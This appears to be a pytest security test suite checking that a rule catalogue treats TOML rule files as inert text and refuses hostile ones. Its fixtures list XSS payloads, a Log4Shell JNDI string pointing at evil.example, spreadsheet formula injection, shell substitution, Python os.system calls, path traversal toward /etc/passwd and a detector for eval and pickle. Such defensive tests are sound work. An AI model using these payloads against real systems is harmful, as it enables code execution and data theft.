"""A rule file is data: nothing of it runs, hangs, or becomes markup or a formula.

TOML has no includes, so a rule file cannot draw in another one, itself, or a file of the machine:
what looks like an include is an unknown key. What can go round in circles are links among folders.
"""

from __future__ import annotations

import ast
import csv
import html.parser
import json
import os
import re
import subprocess
from pathlib import Path
from typing import TYPE_CHECKING

import mistune
import pytest
from improvement.command_line import event_line, in_process, write_lines

from csi.rulebook.pages import pages
from process_mining.errors import CodedError
from rules.catalogue import Catalogue, explain, load_catalogue

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

ROOT = Path(__file__).parents[2]
NAME = "ZZZ001-resolved-at-once.toml"
GOOD = """
code = "ZZZ001"
name = "resolved-at-once"
title = 'TITLE'
practice = "incident"
template = "precedes"
severity = "high"
version = 1
valid_from = 2000-01-01
owner = 'OWNER'
why = 'WHY'
remedy = 'REMEDY'
known_problems = ['KNOWN']

[params]
before = "Diagnose"
activity = "Resolve"

[reference]
itil = 'ITIL'

[[examples]]
verdict = "conforms"
trace = ["Register", "Diagnose", "Resolve", "Close"]

[[examples]]
verdict = "violates"
trace = [{ activity = "Resolve", actor = 'ACTOR', team = 'TEAM', attributes = { note = 'NOTE' } }]

[[examples]]
verdict = "vacuous"
trace = ["Register", "Cancel"]

[[examples]]
verdict = "pending"
trace = ["Register"]
"""
FREE = ("TITLE", "OWNER", "WHY", "REMEDY", "KNOWN", "ITIL", "ACTOR", "TEAM", "NOTE")
ATTACKS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</pre></code><iframe src=//evil.example></iframe>",
    "``` </code> # Owned <b>bold</b>",
    "````",
    "[click](javascript:alert(1))",
    "![x](https://evil.example/a.png)",
    "a | b | <svg onload=alert(1)>",
    "=cmd|calc!A0",
    "@SUM(A1)",
    "+1+1",
    "-2+3",
    "{{ 7 * 7 }}{% raw %}",
    "${jndi:ldap://evil.example}",
    "$(touch owned) `touch owned`",
    '__import__("os").system("touch owned")',
    "%s %n {0.__class__} {activity}",
    "--> <!-- <b>",
    "\\u001b[31m",
)
PLAIN = "ZZZ999"
CODES = {f"ZZZ{i:03d}": attack for i, attack in enumerate(ATTACKS)} | {PLAIN: "plain"}


def load(folder: Path, text: str = GOOD, name: str = NAME) -> Catalogue:
    folder.mkdir(exist_ok=True)
    (folder / name).write_text(text, encoding="utf-8")
    return load_catalogue([folder])


def refused(folder: Path, text: str = GOOD, name: str = NAME) -> list[str]:
    """The codes of the errors, each on one printable line."""
    with pytest.raises(CodedError) as caught:
        load(folder, text, name)
    lines = str(caught.value).splitlines()
    assert all(line.isprintable() for line in lines)
    assert caught.value.exit_code == 2
    return [line.split()[0] for line in lines]


def armed(attack: str) -> str:
    text = GOOD
    for word in FREE:
        text = text.replace(f"'{word}'", f"'{attack}'")
    assert text.count(f"'{attack}'") == len(FREE)
    return text


# --- text that is an attack stays text


@pytest.fixture(scope="module")
def own(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder of rules each of which is an attack, and one that is none."""
    folder = tmp_path_factory.mktemp("own")
    for code, attack in CODES.items():
        text = armed(attack).replace("ZZZ001", code)
        name = f"attack-{code.lower()}"
        text = text.replace('"resolved-at-once"', f'"{name}"')
        (folder / f"{code}-{name}.toml").write_text(text, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def loaded(own: Path) -> Catalogue:
    return load_catalogue([own])


@pytest.fixture(scope="module")
def written(loaded: Catalogue) -> Mapping[str, str]:
    return pages(loaded)


@pytest.mark.parametrize("code", CODES)
def test_pages_show_it_as_text(written: Mapping[str, str], code: str) -> None:
    name = f"{code}-attack-{code.lower()}.md"
    plain = f"{PLAIN}-attack-{PLAIN.lower()}.md"
    assert skeleton(written[name]) == skeleton(written[plain])
    shown = text_of(written[name])
    assert " ".join(CODES[code].split()) in " ".join(shown.split())


def test_pages_that_all_rules_share_show_it_as_text(written: Mapping[str, str]) -> None:
    for name in ("README.md", "templates.md", "controls.md"):
        assert {tag for tag, _ in skeleton(written[name])} <= {
            *("h1", "h2", "p", "table", "thead", "tbody", "tr", "th", "td", "a", "code", "pre"),
            *("strong", "ul", "li"),
        }
        links = [href for tag, href in skeleton(written[name]) if tag == "a"]
        assert all(re.fullmatch(r"(\.\./)?[\w-]*(\.md)?(#\w+)?", href or "?") for href in links)


def rendered(markdown: str) -> str:
    """The page as a reader sees it who lets HTML through."""
    render = mistune.create_markdown(escape=False, plugins=["table"])
    return str(render(markdown))


class _Reader(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs).get("href")))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def read(markdown: str) -> _Reader:
    reader = _Reader()
    reader.feed(rendered(markdown))
    return reader


def skeleton(markdown: str) -> list[tuple[str, str | None]]:
    """Elements and where their links lead: what a text may not change."""
    return read(markdown).elements


def text_of(markdown: str) -> str:
    return "".join(read(markdown).text)


def test_the_skeleton_would_change_if_text_were_markup() -> None:
    assert skeleton("a <script>x</script>") != skeleton("a x")
    assert skeleton("[a](javascript:b)") != skeleton("[a](b)")
    assert skeleton("# a") != skeleton("a")


@pytest.mark.parametrize("code", CODES)
def test_explain_says_it_as_it_is(loaded: Catalogue, code: str) -> None:
    flat = " ".join(explain(loaded.rule(code)).split())
    assert f"Why: {' '.join(CODES[code].split())}" in flat


def test_the_terminal_and_json_have_it_as_text(
    own: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    rows = in_process("rules", "list", "--rules", own, "--json").json()
    titles = {row["code"]: row["title"] for row in rows}
    assert all(titles[code] == attack for code, attack in CODES.items())
    text = in_process("rules", "list", "--rules", own).out
    assert all(line.isprintable() for line in text.splitlines())
    assert len(text.splitlines()) == len(rows) + 1
    assert list(tmp_path.iterdir()) == []


def two_events(folder: Path) -> Path:
    lines = [
        event_line("A", "Resolve", "2024-01-08T00:00:00Z"),
        event_line("A", "Close", "2024-01-09T00:00:00Z"),
    ]
    return write_lines(folder / "events.ndjson", lines)


def test_an_audit_shows_it_as_text(own: Path, tmp_path: Path) -> None:
    """In the page no element, in the spreadsheet no formula."""
    ran = in_process("audit", two_events(tmp_path), "--rules", own, "--out", tmp_path / "out")
    assert (ran.code, ran.err) == (0, "")
    page = (tmp_path / "out" / "report.html").read_text("utf-8")
    reader = _Reader()
    reader.feed(page)
    assert {tag for tag, _ in reader.elements}.isdisjoint(
        {"script", "img", "iframe", "b", "object"}
    )
    assert not [href for _, href in reader.elements if href and not href.startswith("#")]
    assert sum(attack in "".join(reader.text) for attack in ATTACKS) > len(ATTACKS) // 2
    with (tmp_path / "out" / "findings.csv").open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")] == []
    assert any(cell.startswith("'=cmd") for cell in cells)
    summary = json.loads((tmp_path / "out" / "summary.json").read_text("utf-8"))
    assert {row["code"] for row in summary["rules"]} >= set(CODES)


# --- what is refused


@pytest.mark.parametrize(
    ("old", "new", "codes"),
    [
        # code in strings, where words of ours are expected
        ('"Diagnose"\nactivity', "\"__import__('os').system('touch owned')\"\nactivity", ["RU104"]),
        ('"precedes"', '"os.system"', ["RU106"]),
        ('"precedes"', '"../../evil"', ["RU106"]),
        ('"precedes"', '"_facts"', ["RU106"]),
        ('"incident"', '"incident; DROP TABLE rules"', ["RU115"]),
        # no include, whatever it is called
        ('code = "ZZZ001"', f'code = "ZZZ001"\ninclude = "{NAME}"', ["RU102"]),
        ('code = "ZZZ001"', 'code = "ZZZ001"\n"$ref" = "/etc/passwd"', ["RU102"]),
        ('code = "ZZZ001"', f'code = "ZZZ001"\nextends = ["{NAME}"]', ["RU102"]),
        ("[params]", '[params]\n"<<" = "*anchor"', ["RU107"]),
        ("[params]", '[params]\n__class__ = "x"', ["RU107"]),
        # names that would start a line, a path or a switch of the terminal
        ('name = "resolved-at-once"', 'name = "resolved\\nat-once"', ["RU105"]),
        ('name = "resolved-at-once"', 'name = "../resolved"', ["RU105"]),
        ('name = "resolved-at-once"', 'name = "resolved-at-once\\n"', ["RU105"]),
        ('code = "ZZZ001"', 'code = "ZZZ001\\n"', ["RU105"]),
        ("title = 'TITLE'", 'title = "a\\nb"', ["RU105"]),
        ("title = 'TITLE'", 'title = "\\u202Egpj.exe"', ["RU105"]),
        ("title = 'TITLE'", 'title = "\\u001b[31mred"', ["RU105"]),
        ("why = 'WHY'", 'why = "\\u0000"', ["RU105"]),
        # numbers
        ("version = 1", "version = 9223372036854775808", ["RU114"]),
        ("version = 1", f"version = {'9' * 4000}", ["RU114"]),
        ("version = 1", "version = -1", ["RU105"]),
        ("version = 1", "version = nan", ["RU114"]),
        ("version = 1", "version = 1e400", ["RU114"]),
        ("[params]", "[params]\nform = 1e-9", ["RU105"]),
        ("valid_from = 2000-01-01", "valid_from = 0000-01-01", ["RU101"]),
        # size and depth
        ("[params]", f"x = {'[' * 5000}{']' * 5000}\n[params]", ["RU101"]),
        ("why = 'WHY'", f"why = '{'x' * 5000}'", ["RU105"]),
        ("[params]", "#" * 70_000 + "\n[params]", ["RU112"]),
    ],
)
def test_a_hostile_file_is_refused_with_a_code(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, old: str, new: str, codes: list[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    assert GOOD.count(old) == 1
    assert refused(tmp_path / "own", GOOD.replace(old, new)) == codes
    assert not list(tmp_path.rglob("owned"))


@pytest.mark.parametrize(
    "template",
    [
        'template = "waits_at_most"\n[params]\nlimit = "999999w"\ncalendar = "24x7"',
        'template = "at_most"\n[params]\nlimit = 1000',
    ],
)
def test_the_greatest_numbers_that_are_allowed_do_no_harm(tmp_path: Path, template: str) -> None:
    start, rest = GOOD.split('template = "precedes"\n')
    head, tail = rest.split("[params]\n")
    kind, params = template.split("\n[params]\n")
    params += '\nactivity = "Resolve"'
    after = tail.split("\n\n[reference]", 1)[1]
    text = f"{start}{kind}\n{head}[params]\n{params}\n\n[reference]{after}"
    rule = load(tmp_path / "own", text).rule("ZZZ001")
    assert rule.params.limit in (1000, 999_999 * 7 * 86_400_000_000)
    log = two_events(tmp_path)
    words = (
        "rules",
        "explain",
        "ZZZ001",
        log,
        "--case",
        "A",
        "--rules",
        tmp_path / "own",
        "--json",
    )
    ran = in_process(*words)
    assert (ran.code, ran.err) == (0, "")
    assert ran.json()["verdict"] in ("conforms", "unknown")


@pytest.mark.parametrize(
    "name",
    [
        "ZZZ001-resolved-at-once\n.toml",
        "\x1b[31mZZZ001.toml",
        "ZZZ001-resolved-at-once .toml",
        "zzz001-resolved-at-once.toml",
        "ZZZ001-resolved-at-once.v2.toml",
        "-rf.toml",
    ],
)
def test_a_file_name_is_the_rules_or_none(tmp_path: Path, name: str) -> None:
    assert refused(tmp_path / "own", name=name) == ["RU110"]


# --- folders that go round in circles, files that never end


def links_in(folder: Path) -> Iterator[tuple[str, Path]]:
    """Ways to tie a knot: the name of the link, and where it leads."""
    yield "itself", folder / "itself"
    yield "up", folder
    yield "far", Path("/")
    yield "nothing", folder / "nowhere"
    yield "ZZZ002-device.toml", Path("/dev/zero")


@pytest.mark.parametrize("which", range(5))
def test_links_to_folders_and_devices_are_refused(tmp_path: Path, which: int) -> None:
    own = tmp_path / "own"
    load(own)
    (own / "deep").mkdir()
    name, target = list(links_in(own))[which]
    (own / "deep" / name).symlink_to(target)
    assert refused(own) == ["RU124"]


def test_a_link_to_a_rule_file_is_a_rule_file(tmp_path: Path) -> None:
    (tmp_path / "elsewhere.toml").write_text(GOOD)
    own = tmp_path / "own"
    own.mkdir()
    (own / NAME).symlink_to(tmp_path / "elsewhere.toml")
    assert load_catalogue([own]).rule("ZZZ001").name == "resolved-at-once"


@pytest.mark.parametrize("name", ["ZZZ002-pipe.toml", "practice.toml", "model.bpmn", "notes.md"])
def test_a_pipe_is_never_waited_for(tmp_path: Path, name: str) -> None:
    own = tmp_path / "own"
    load(own)
    os.mkfifo(own / name)
    assert refused(own) in (["RU111"], ["RU201"])


def test_a_practice_file_that_is_a_device_is_never_read(tmp_path: Path) -> None:
    own = tmp_path / "own"
    load(own)
    (own / "practice.toml").symlink_to("/dev/zero")
    assert refused(own) == ["RU201"]


# --- nothing in the product could run it


FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__", "execfile"}
FORBIDDEN_MODULES = {"pickle", "cPickle", "_pickle", "dill", "cloudpickle", "marshal", "shelve"}
FORBIDDEN_ATTRIBUTES = {
    ("os", "system"),
    ("os", "popen"),
    ("yaml", "load"),
    ("yaml", "unsafe_load"),
    ("yaml", "full_load"),
    ("pandas", "read_pickle"),
    ("pd", "read_pickle"),
    ("builtins", "eval"),
    ("builtins", "exec"),
}


def dangers(tree: ast.AST) -> Iterator[str]:
    """Every place in a program that could run text, or make objects of bytes."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            yield from dangerous_call(node)
        names = [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
        if isinstance(node, ast.ImportFrom):
            names = [node.module or "", *(f"{node.module}.{alias.name}" for alias in node.names)]
        for name in names:
            if name.split(".")[0] in FORBIDDEN_MODULES or name in ("os.system", "yaml.load"):
                yield f"line {node.lineno}: import {name}"


def dangerous_call(node: ast.Call) -> Iterator[str]:
    called = node.func
    if isinstance(called, ast.Name) and called.id in FORBIDDEN_CALLS:
        yield f"line {node.lineno}: {called.id}()"
    named = isinstance(called, ast.Attribute) and isinstance(called.value, ast.Name)
    if named and (called.value.id, called.attr) in FORBIDDEN_ATTRIBUTES:
        yield f"line {node.lineno}: {called.value.id}.{called.attr}()"
    for word in node.keywords:
        value = word.value
        if word.arg == "shell" and not (isinstance(value, ast.Constant) and not value.value):
            yield f"line {node.lineno}: shell="


def sources() -> list[Path]:
    """Every Python file and notebook that git tracks; without git, all that lie there."""
    asked = ["git", "-C", str(ROOT), "ls-files", "-z", "*.py", "*.ipynb"]
    done = subprocess.run(asked, check=False, capture_output=True, encoding="utf-8")
    tracked = [ROOT / name for name in done.stdout.split("\0") if name]
    folders = ("process_mining", "rules", "csi", "notebooks", "tests")
    lying = [path for name in folders for path in (ROOT / name).rglob("*.py")]
    return sorted(path for path in tracked or lying if path.is_file())


def programs(path: Path) -> Iterator[str]:
    text = path.read_text(encoding="utf-8")
    if path.suffix == ".ipynb":
        for cell in json.loads(text)["cells"]:
            if cell["cell_type"] == "code":
                yield re.sub(r"(?m)^\s*[%!].*$", "", "".join(cell["source"]))
    else:
        yield text


def test_no_program_of_ours_runs_text_or_unpickles() -> None:
    files = sources()
    assert len(files) > 200
    assert {"cli.py", "engine.py", "catalogue.py"} <= {path.name for path in files}
    found = {
        str(path.relative_to(ROOT)): places
        for path in files
        if (places := [p for text in programs(path) for p in dangers(ast.parse(text))])
    }
    assert found == {}


@pytest.mark.parametrize(
    "text",
    [
        "eval('1')",
        "exec(open(p).read())",
        "compile('1', 'x', 'exec')",
        "import pickle",
        "from pickle import loads",
        "import marshal as m",
        "from shelve import open",
        "import yaml\nyaml.load(text)",
        "from yaml import load",
        "import os\nos.system('x')",
        "from os import system",
        "import subprocess\nsubprocess.run('x', shell=True)",
        "import subprocess\nsubprocess.run('x', shell=flag)",
        "pd.read_pickle(p)",
        "__import__('os')",
    ],
)
def test_the_search_finds_what_it_looks_for(text: str) -> None:
    assert list(dangers(ast.parse(text)))


def test_the_search_lets_harmless_words_pass() -> None:
    harmless = "import re\nre.compile('eval(')\ndf.eval('x')\nsubprocess.run(['x'], shell=False)\n"
    assert list(dangers(ast.parse(harmless))) == []
